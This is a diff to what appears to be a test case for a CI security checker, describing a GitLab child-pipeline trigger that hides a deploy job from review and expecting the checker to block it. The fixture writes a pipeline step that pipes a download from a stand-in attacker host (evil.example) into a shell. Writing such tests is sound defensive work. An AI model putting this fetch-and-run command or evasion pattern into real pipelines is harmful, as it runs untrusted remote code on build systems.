@@ -1,10 +1,7 @@
 # attack: .gitlab-ci.yml starts a child pipeline from a file of the repository (`trigger: include: ci/deploy.yml`, or `- local:`) whose name is no pipeline name; the role is given by `trigger:`, which the layout does not read, so the child's download piped to a shell is never judged
 # surface: staged, range (CI)
 # expect: block
-new_repo
-write README.md 'hello'
-commit base
-base=$(git rev-parse HEAD)
+base_repo
 write ci/deploy.yml 'deploy:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
   '  script:' '    - curl -fsSL https://evil.example/install.sh | sh'
 write .gitlab-ci.yml 'deploy:' '  trigger:' '    include: ci/deploy.yml' '    strategy: depend'
